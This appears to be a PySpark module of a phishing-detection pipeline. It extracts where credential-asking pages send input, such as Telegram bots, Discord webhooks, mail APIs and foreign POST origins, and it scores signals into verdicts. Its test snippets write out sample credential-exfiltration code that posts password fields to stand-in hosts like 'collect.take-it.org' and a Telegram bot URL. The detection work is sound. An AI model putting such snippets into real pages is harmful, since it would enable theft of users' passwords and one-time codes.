"""Where pages send what is typed into them, and what independent signals prove.

Nothing counts on a page that asks for no password or one-time code."""

from __future__ import annotations

import re

import pandas as pd
from pyspark.sql import DataFrame
from pyspark.sql import functions as F
from pyspark.sql.types import ArrayType, StringType

from ..catalog import query
from ..tables import table
from .enrichment import public_host
from .forms import credential_input
from .pages import signals
from .triage import RULES, _suffixed, _table, with_suffix

#: Mail services' send addresses, form relays and what may stand before a form's name, sites that honest pages post to.
MAIL_SERVICES = ("api.mailgun.net/v3/", "api.sendgrid.com/v3/mail/send", "api.emailjs.com/api/v1.0/email", "api.brevo.com/v3/smtp/email", "api.sendinblue.com/v3/smtp/email", "api.smtp2go.com/v3/email")
RELAYS = (("formspree.io/f/", ""), ("getform.io/f/", ""), ("formsubmit.co/", "ajax"), ("submit-form.com/", ""), ("usebasin.com/f/", ""))
BENIGN_SITES = ("google-analytics.com", "googletagmanager.com", "google.com", "gstatic.com", "recaptcha.net", "hcaptcha.com", "doubleclick.net", "cloudflare.com", "cloudflareinsights.com", "sentry.io", "hotjar.com", "hotjar.io", "clarity.ms", "segment.io", "segment.com", "mixpanel.com", "amplitude.com", "nr-data.net", "newrelic.com", "datadoghq.com", "datadoghq-browser-agent.com", "bing.com", "facebook.com", "facebook.net", "linkedin.com", "onetrust.com", "cookielaw.org", "branch.io", "onesignal.com", "adobedtm.com", "omtrdc.net", "demdex.net")
#: Phrases of parked pages, and of warnings that a host puts in a page's place.
PARKED = ("domain is for sale", "this domain may be for sale", "buy this domain", "parked free", "domain parking", "sedoparking", "parkingcrew", "hugedomains", "dan.com", "is parked")
INTERSTITIALS = ("suspected phishing | cloudflare", "suspected phishing site ahead", "phishing warning | cloudflare")

#: Hosts of bots and webhooks, what a bot sends, and how long numbers and secrets are.
BOT_HOST, BOT_SENDS = "api.telegram.org", ("sendMessage", "sendDocument", "sendPhoto")
BOT_NUMBER, BOT_SECRET = (6, 12), 30
HOOK_HOSTS, HOOK_NUMBER, HOOK_SECRET = ("discord.com", "discordapp.com"), (15, 20), 10
#: Anything written like a host with a path, cut into its segments afterwards.
ADDRESS = r"[A-Za-z0-9.-]+\.[A-Za-z]+(?:/[\w.:@%~+-]+)+/?"
#: Anything written like number:secret.
PAIR = r"\w+:[\w-]+"
MAX_INSTANCES = 3


def _digits(text, least: int, most: int):
    return F.length(text).between(least, most) & (F.translate(text, "0123456789", "") == "")


def _bot_token(text):
    """Whether a text is a bot's number and secret."""
    return _digits(F.substring_index(text, ":", 1), *BOT_NUMBER) & (F.length(F.substring_index(text, ":", -1)) >= BOT_SECRET)


def _family(address):
    """(family, hit) of an address; null where it is of none. Each test looks at one part: the host, or a segment of the path."""
    low = F.lower(address)
    host, path = F.substring_index(low, "/", 1), F.split(address, "/")
    segment = lambda i: F.coalesce(F.get(path, F.lit(i)), F.lit(""))
    of = lambda name: (host == name) | F.endswith(host, F.concat(F.lit("."), name))
    hit = lambda family, *parts: F.struct(F.lit(family).alias("family"), F.concat_ws("/", *parts).alias("hit"))
    sends = F.exists(F.array(*map(F.lit, BOT_SENDS)), lambda m: F.startswith(F.lower(segment(2)), F.lower(m)))
    bot = of(F.lit(BOT_HOST)) & F.startswith(F.lower(segment(1)), F.lit("bot")) & _bot_token(F.substring(segment(1), 4, 1 << 20)) & sends
    hook = F.exists(F.array(*map(F.lit, HOOK_HOSTS)), of) & (F.lower(segment(1)) == "api") & (F.lower(segment(2)) == "webhooks") & _digits(segment(3), *HOOK_NUMBER) & (F.length(segment(4)) >= HOOK_SECRET)
    service = F.get(F.filter(F.array(*map(F.lit, MAIL_SERVICES)), lambda x: F.contains(F.concat(low, F.lit("/")), x)), F.lit(0))
    out = F.when(bot, hit("telegram_bot", F.lit(BOT_HOST), segment(1), segment(2))).when(hook, hit("discord_webhook", host, *map(segment, range(1, 5)))).when(service.isNotNull(), hit("mail_api", service))
    for lead, middle in RELAYS:
        at = lead.count("/")
        skip = F.when(F.lower(segment(at)) == middle, at + 1).otherwise(at) if middle else F.lit(at)
        form = F.coalesce(F.get(path, skip), F.lit(""))
        out = out.when(F.startswith(low, F.lit(lead)) & (form != ""), hit("form_relay", F.lit(lead.rstrip("/")), form))
    return out


def page_code(pages: DataFrame, scripts: DataFrame | None, id_col: str, html_col: str, *more: str) -> DataFrame:
    """(id, place, code, ...) of the pages that ask for a credential: the page itself (``rendered DOM``), and its scripts, a table of (id, place, code)."""
    asking = pages.filter(credential_input(F.col(html_col)))
    rows = asking.select(F.col(id_col), F.lit("rendered DOM").alias("place"), F.col(html_col).alias("code"), *more)
    return rows if scripts is None else rows.unionByName(asking.select(id_col, *more).join(scripts.select(id_col, "place", "code"), id_col).select(id_col, "place", "code", *more))


def endpoints(pages: DataFrame, id_col: str = "page_id", html_col: str = "html", scripts: DataFrame | None = None) -> DataFrame:
    """(id, family, hit, place): distinct endpoints of each family and the first place that names them (C25). A bot's address may be put together in one
    place from three parts, which count as one hit of the token where no whole address is written anywhere."""
    code = F.col("code")
    whole = F.array_compact(F.transform(F.regexp_extract_all(code, F.lit(ADDRESS), F.lit(0)), _family))
    token = F.get(F.filter(F.regexp_extract_all(code, F.lit(PAIR), F.lit(0)), _bot_token), F.lit(0))
    sends = F.exists(F.array(*map(F.lit, BOT_SENDS)), lambda m: F.contains(code, m))
    part = F.when(F.contains(F.lower(code), F.lit(BOT_HOST + "/bot")) & sends & token.isNotNull(), F.array(F.struct(F.lit("parts").alias("family"), token.alias("hit"))))
    found = page_code(pages, scripts, id_col, html_col).select(id_col, "place", F.inline(F.concat(whole, F.coalesce(part, F.array().cast("array<struct<family string, hit string>>")))))
    first = F.min(F.struct(F.col("place") != "rendered DOM", "place")).alias("first")
    hits = found.groupBy(id_col, "family", "hit").agg(first).select(id_col, "family", "hit", "first.place")
    bots = hits.filter("family = 'telegram_bot'").select(id_col).distinct()
    parts = hits.filter("family = 'parts'").join(bots, id_col, "left_anti").groupBy(id_col).agg(F.min(F.struct(F.col("place") != "rendered DOM", "place", "hit")).alias("m"))
    return hits.filter("family <> 'parts'").unionByName(parts.select(id_col, F.lit("telegram_bot").alias("family"), "m.hit", "m.place"))


#: Calls that may post: who is called (None: anyone), and where its address and its options stand.
POSTING = {("fetch", None): "options", ("ajax", "$"): "settings", ("post", "$"): "address", ("post", "axios"): "address", ("open", None): "verb", ("sendBeacon", None): "address"}
_CALL = re.compile(r"([\w$]+)?(\s*\.\s*)?\b(" + "|".join(dict.fromkeys(name for name, _ in POSTING)) + r")\s*\(")
_LEXEME = re.compile(r"""("(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'|`(?:[^`\\]|\\.)*`)|([(\[{])|([)\]}])|([,:])|([\w$]+)""", re.S)
#: Characters of a call that are read; what is longer is code, not a call's arguments.
CALL_CHARS = 20_000


def arguments(code: str, at: int) -> tuple[list[str | None], dict[str, str]]:
    """Of a call whose arguments begin at ``at``: its arguments, those that are texts as they read, others null; and the texts of the keys of objects
    among them."""
    values: list[str | None] = [None]
    keys: dict[str, str] = {}
    depth, word, key = 0, None, None
    for m in _LEXEME.finditer(code, at, at + CALL_CHARS):
        text, opened, closed, sign, name = m.groups()
        if opened:
            depth += 1
        elif closed:
            depth -= 1
            if depth < 0:
                break
        elif sign == ",":
            if depth == 0:
                values.append(None)
            word = key = None
        elif sign == ":":
            key = word
        elif depth == 0 and text:
            values[-1] = text[1:-1]
        elif depth == 1 and text and key:
            keys.setdefault(key.lower(), text[1:-1])
        word = name or (text[1:-1] if text else None)
    return values, keys


def posted_addresses(code: str) -> list[str]:
    """Written absolute addresses that a page's code posts to, in order."""
    out = []
    for m in _CALL.finditer(code):
        owner, dot, name = m.groups()
        shape = POSTING.get((name, None)) or POSTING.get((name, owner if dot else None))
        if not shape or name == "open" and not dot:
            continue
        values, keys = arguments(code, m.end())
        second = values[1] if len(values) > 1 else None
        verb = {"address": "POST", "options": keys.get("method"), "settings": keys.get("type") or keys.get("method"), "verb": values[0]}[shape]
        address = {"settings": keys.get("url"), "verb": second}.get(shape, values[0])
        if (verb or "").upper() == "POST" and (address or "").lower().startswith(("http://", "https://")) and not any(c.isspace() for c in address):
            out.append(address)
    return out


@F.pandas_udf(ArrayType(StringType()))
def _posted(code: pd.Series) -> pd.Series:
    return code.map(lambda c: posted_addresses(c) if c else [])


def foreign_posts(pages: DataFrame, rules: DataFrame, legitimate: DataFrame, id_col: str = "page_id", url_col: str = "url", html_col: str = "html", scripts: DataFrame | None = None) -> DataFrame:
    """(id, origin, url, place): where a page's code posts to other sites than its own, a brand's (``legitimate``: site) and the benign ones, one row
    for each origin, with the first address found there and its place (C26)."""
    host = lambda u: F.regexp_extract(F.lower(u), r"^[a-z]+://(?:[^/@?#]*@)?([^/:?#]+)", 1)
    posts = page_code(pages.withColumn("own", host(F.col(url_col))), scripts, id_col, html_col, "own").select(id_col, "place", "own", F.posexplode(_posted("code")).alias("at", "url"))
    posts = posts.withColumn("name", host(F.col("url"))).filter(public_host(F.col("name")))
    names = posts.select(F.explode(F.array("own", "name")).alias("name")).filter("name <> ''").distinct()
    sites = with_suffix(names, rules).select("name", "etld1")
    posts = posts.join(sites.withColumnRenamed("etld1", "site"), "name").join(sites.select(F.col("name").alias("own"), F.col("etld1").alias("home")), "own", "left")
    posts = posts.filter(~F.col("site").isin(*BENIGN_SITES) & ~F.col("site").eqNullSafe(F.col("home"))).join(legitimate.select("site"), "site", "left_anti")
    origin = F.regexp_extract(F.lower("url"), r"^([a-z]+://[^/?#]+)", 1)
    first = F.min(F.struct(F.col("place") != "rendered DOM", "place", "at", "url")).alias("first")
    return posts.groupBy(id_col, origin.alias("origin")).agg(first).select(id_col, "origin", "first.url", "first.place")


def independent(found):
    """Size of the largest set of signals (name, artifacts) of different detectors that share no artifact (C29), over an array of them of
    which MAX_INSTANCES of each detector count."""
    few = F.filter(F.array_sort(F.array_distinct(found)), lambda s, i: F.size(F.filter(F.slice(F.array_sort(F.array_distinct(found)), F.lit(1), i), lambda t: t["name"] == s["name"])) < MAX_INSTANCES)
    none = F.array(F.struct(F.array().cast("array<string>").alias("names"), F.array().cast("array<string>").alias("artifacts")))

    def extend(sets, s):
        free = F.filter(sets, lambda p: ~F.array_contains(p["names"], s["name"]) & ~F.arrays_overlap(p["artifacts"], s["artifacts"]))
        return F.concat(sets, F.transform(free, lambda p: F.struct(F.array_append(p["names"], s["name"]).alias("names"), F.concat(p["artifacts"], s["artifacts"]).alias("artifacts"))))

    return F.array_max(F.transform(F.aggregate(few, none, extend), lambda p: F.size(p["names"])))


#: What the queries write into each page, by its id: inputs and code of all families, benign and incomplete ones.
_BOT_ID = "123456789:" + "Ab3_" * 9
SNIPPETS = (
    "",
    '<input type="password"><script>fetch("https://collect.take-it.org/p?x=1", {method: "POST", body: d})</script>',
    f'<input type=text autocomplete="one-time-code"><script>u="https://api.telegram.org/bot{_BOT_ID}/sendMessage"</script>',
    f'<input type="password"><script>t="{_BOT_ID}"; a="https://api.telegram.org/bot"; m="sendDocument"</script>',
    '<script>fetch("https://discord.com/api/webhooks/1234567890123456/abcdefghij_kl", {method: "POST"})</script>',
    '<input name="user otp"><script>axios.post("https://api.sendgrid.com/v3/mail/send", d)</script><form action="https://formspree.io/f/abcd1">',
    '<input type="password"><script>$.ajax({url: "https://www.google-analytics.com/collect", type: "POST"}); t="https://api.telegram.org/bot"</script>',
    '<input type="password"><script>$.ajax({type: "POST", url: "https://drop.taken.net/x"}); navigator.sendBeacon("https://drop.taken.net/y"); r.open("POST", "https://localhost/z"); $.post("https://shop.example.com/q")</script>',
)


def written(spark, sf) -> DataFrame:
    own = F.element_at(F.array(*map(F.lit, SNIPPETS)), (F.col("page_id") % len(SNIPPETS) + 1).cast("int"))
    return table(spark, sf, "pages").select("page_id", "url", F.concat("html", own).alias("html"))


_q = lambda s: s.replace("'", "''")
_WRITTEN = "(SELECT page_id, url, html || [" + ", ".join(f"'{_q(s)}'" for s in SNIPPETS) + f"][page_id % {len(SNIPPETS)} + 1] AS html FROM pages)"
_TAGS = "regexp_extract_all(lower(html), '<input[^>]*>')"
_ASKS = f"""len(list_filter({_TAGS}, lambda t: regexp_matches(t, 'type\\s*=\\s*.?password') OR regexp_matches(t, 'autocomplete\\s*=\\s*.?one-time-code') OR regexp_matches(t, '(name|id|placeholder|aria-label)\\s*=\\s*["''][^"'']*\\b(otp|one[- ]time)\\b'))) > 0"""


@query(f"SELECT page_id, {_ASKS} AS asks FROM {_WRITTEN}")
def c24_credential_pages(spark, sf):
    return written(spark, sf).select("page_id", credential_input(F.col("html")).alias("asks"))


_BOTS = " OR ".join(f"starts_with(p[3], '{m}')" for m in BOT_SENDS)
_IS_TOKEN = lambda x: f"(length(split_part({x}, ':', 1)) BETWEEN 6 AND 12 AND translate(split_part({x}, ':', 1), '0123456789', '') = '' AND length(split_part({x}, ':', 2)) >= 30)"


@query(f"""WITH w AS (SELECT page_id, html FROM {_WRITTEN} WHERE {_ASKS}), a AS (SELECT page_id, unnest(string_split_regex(html, '["<> ]+')) AS word FROM w), p AS (SELECT page_id, word, string_split(regexp_replace(word, '^https?://', ''), '/') AS p FROM a),
 h AS (SELECT page_id, 'telegram_bot' AS family, array_to_string(p[1:3], '/') AS hit FROM p WHERE p[1] = '{BOT_HOST}' AND starts_with(p[2], 'bot') AND {_IS_TOKEN("substring(p[2], 4)")} AND ({_BOTS})
 UNION SELECT page_id, 'mail_api', array_to_string(p, '/') FROM p WHERE array_to_string(p, '/') IN {MAIL_SERVICES} UNION SELECT page_id, 'form_relay', array_to_string(p, '/') FROM p WHERE p[1] = 'formspree.io' AND p[2] = 'f' AND p[3] <> ''),
 t AS (SELECT page_id, min(word) AS token, FROM a WHERE {_IS_TOKEN("word")} GROUP BY 1)
 SELECT *, 'rendered DOM' AS place FROM h UNION SELECT page_id, 'telegram_bot', token, 'rendered DOM' FROM t JOIN w USING (page_id) WHERE contains(html, '{BOT_HOST}/bot') AND ({" OR ".join(f"contains(html, '{m}')" for m in BOT_SENDS)}) AND page_id NOT IN (SELECT page_id FROM h WHERE family = 'telegram_bot')""")
def c25_endpoints(spark, sf):
    """Distinct endpoints of pages that ask for a credential."""
    return endpoints(written(spark, sf))


@query(f"""WITH w AS (SELECT page_id, html, split_part(split_part(lower(url), '/', 3), ':', 1) AS own FROM {_WRITTEN} WHERE {_ASKS}), c AS (SELECT page_id, own, unnest(string_split(html, ')')) AS call FROM w),
 u AS (SELECT page_id, own, split_part(unnest(list_filter(string_split(call, '"'), lambda x: regexp_matches(x, '^https?://'))), '"', 1) AS url FROM c WHERE contains(call, 'sendBeacon(') OR contains(call, '$.post(') OR contains(call, 'axios.post(') OR ((contains(call, 'fetch(') OR contains(call, '.ajax(') OR contains(call, '.open(')) AND contains(call, '"POST"'))),
 h AS (SELECT *, split_part(split_part(lower(url), '/', 3), ':', 1) AS name FROM u), s AS {_suffixed("(SELECT name FROM h UNION SELECT own FROM h)")}
 SELECT DISTINCT page_id, array_to_string(string_split(lower(url), '/')[1:3], '/') AS origin, 'rendered DOM' AS place FROM h JOIN s USING (name) LEFT JOIN s o ON o.name = h.own WHERE contains(h.name, '.') AND s.etld1 NOT IN {BENIGN_SITES} AND s.etld1 IS DISTINCT FROM o.etld1 AND s.etld1 <> 'shop.example.com'""")
def c26_foreign_posts(spark, sf):
    """Origins other than the page's own that its code posts to."""
    return foreign_posts(written(spark, sf), _table(spark, RULES, "suffix string, kind string"), _table(spark, [("shop.example.com",)], "site string")).select("page_id", "origin", "place")


@query(f"SELECT page_id, {' OR '.join(f'''contains(lower(html), '{p}')''' for p in PARKED)} AS parked, {' OR '.join(f'''contains(lower(html), '{p}')''' for p in INTERSTITIALS)} AS interstitial FROM (SELECT page_id, html || ['', 'This domain may be for sale', '<title>Phishing Warning | Cloudflare</title>'][page_id % 3 + 1] AS html FROM pages)")
def c22_placeholder_pages(spark, sf):
    """Pages that stand in the place of others: parked ones, and warnings of a host, which are no evidence of their own."""
    said = F.element_at(F.array(*map(F.lit, ("", "This domain may be for sale", "<title>Phishing Warning | Cloudflare</title>"))), (F.col("page_id") % 3 + 1).cast("int"))
    low = F.lower(F.concat("html", said))
    holds = lambda phrases: F.exists(F.array(*map(F.lit, phrases)), lambda p: F.contains(low, p))
    return table(spark, sf, "pages").select("page_id", holds(PARKED).alias("parked"), holds(INTERSTITIALS).alias("interstitial"))


_STRONG = "(SELECT DISTINCT l_orderkey AS domain, CASE l_linenumber % 3 WHEN 0 THEN 'kit' WHEN 1 THEN 'icon' ELSE 'form' END AS name, 'a' || l_suppkey % 4 AS a, 'b' || l_partkey % 3 AS b FROM lineitem WHERE l_quantity > 35)"
_INDEPENDENT = f"""(WITH r AS (SELECT *, row_number() OVER (PARTITION BY domain, name ORDER BY a, b) AS n FROM {_STRONG}), s AS (SELECT * FROM r WHERE n <= {MAX_INSTANCES}), p AS (SELECT x.domain, x.name AS n1, y.name AS n2, x.a AS a1, x.b AS b1, y.a AS a2, y.b AS b2 FROM s x JOIN s y ON x.domain = y.domain AND x.name < y.name AND x.a <> y.a AND x.b <> y.b),
 t AS (SELECT DISTINCT p.domain FROM p JOIN s z ON z.domain = p.domain AND z.name > p.n2 AND z.a NOT IN (p.a1, p.a2) AND z.b NOT IN (p.b1, p.b2)) SELECT domain, CASE WHEN domain IN (SELECT domain FROM t) THEN 3 WHEN domain IN (SELECT domain FROM p) THEN 2 ELSE 1 END AS strong FROM s GROUP BY domain)"""


def independent_strong(spark, sf) -> DataFrame:
    found = signals(spark, sf, F.array(F.concat(F.lit("a"), F.col("l_suppkey") % 4), F.concat(F.lit("b"), F.col("l_partkey") % 3))).filter("strength = 'strong'")
    return found.groupBy("domain").agg(F.collect_set(F.struct("name", F.col("artifact").alias("artifacts"))).alias("s")).select("domain", independent(F.col("s")).alias("strong"))


@query(f"SELECT domain, strong FROM {_INDEPENDENT}")
def c29_independent_strong(spark, sf):
    """The largest set of strong signals without a common artifact."""
    return independent_strong(spark, sf)


@query(f"""WITH g AS (SELECT l_orderkey AS domain, count(*) FILTER (l_quantity > 20 AND l_quantity <= 35) AS m, count(*) FILTER (l_quantity <= 20) AS w FROM lineitem GROUP BY 1)
 SELECT g.domain, CASE WHEN coalesce(strong, 0) >= 2 THEN 'confirmed' WHEN coalesce(strong, 0) = 0 AND m = 0 THEN 'dismissed' ELSE 'candidate' END AS verdict, round(least(0.99, 0.5 + 0.2 * coalesce(strong, 0) + 0.08 * m + 0.02 * w), 2) AS confidence FROM g LEFT JOIN {_INDEPENDENT} i ON i.domain = g.domain""")
def c30_verdict(spark, sf):
    """Verdict and confidence from independent strong signals and the weaker ones."""
    n = lambda k: F.count_if(F.col("strength") == k)
    rest = signals(spark, sf).groupBy("domain").agg(n("moderate").alias("m"), n("weak").alias("w"))
    j = rest.join(independent_strong(spark, sf), "domain", "left").withColumn("strong", F.coalesce("strong", F.lit(0)))
    verdict = F.when(F.col("strong") >= 2, "confirmed").when((F.col("strong") == 0) & (F.col("m") == 0), "dismissed").otherwise("candidate")
    return j.select("domain", verdict.alias("verdict"), F.round(F.least(F.lit(0.99), 0.5 + 0.2 * F.col("strong") + 0.08 * F.col("m") + 0.02 * F.col("w")), 2).alias("confidence"))


def strong_signals(document):
    """Strong signals of a JSON document, 0 where it has none or is none."""
    found = F.from_json(document, "signals array<struct<name string, strength string>>").signals
    return F.greatest(F.size(F.filter(F.coalesce(found, F.array()), lambda s: s.strength == "strong")), F.lit(0))


@query("SELECT l_orderkey AS domain, count(*) FILTER (l_quantity > 35) AS strong FROM lineitem GROUP BY 1")
def c32_strong_in_document(spark, sf):
    listed = F.transform(F.collect_list("strength"), lambda s: F.struct(F.lit("x").alias("name"), s.alias("strength")))
    documents = signals(spark, sf).groupBy("domain").agg(F.to_json(F.struct(listed.alias("signals"))).alias("document"))
    return documents.select("domain", strong_signals(F.col("document")).alias("strong"))
